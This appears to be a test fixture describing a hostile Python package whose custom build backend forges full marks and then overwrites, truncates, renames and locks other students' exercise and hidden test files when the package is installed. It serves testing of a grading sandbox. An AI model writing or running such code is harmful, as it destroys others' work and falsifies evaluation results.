"""A build backend that writes full marks over the results, a wrong answer over a neighbour's, and locks the folders."""
# goal: harm
# group: build
# baseline: wrong
#@file pyproject.toml
#| [build-system]
#| requires = ["setuptools"]
#| build-backend = "backend"
#| backend-path = ["src"]
#|
#| #@part project.toml
#@file src/minor_units/__init__.py
#| """Answers nothing."""
#@file src/backend.py
#| #@part forgery.py
#| #@part backend.py
#|
#|
#| def mischief():
#|     forge()
#|     for folder in courses():
#|         for victim in (*folder.glob("exercises/*/*.py"), *folder.glob("exercises/*/hidden/*.py")):
#|             for deed in (
#|                 lambda: victim.write_text("raise ValueError('LEAKED into a neighbour')\n"),
#|                 lambda: victim.chmod(0o777),
#|                 lambda: os.utime(victim, (0, 0)),
#|                 lambda: os.truncate(victim, 0),
#|                 lambda: victim.rename(victim.with_suffix(".gone")),
#|                 lambda: os.chmod(folder / "exercises", 0),
#|             ):
#|                 try:
#|                     deed()
#|                 except OSError:
#|                     continue
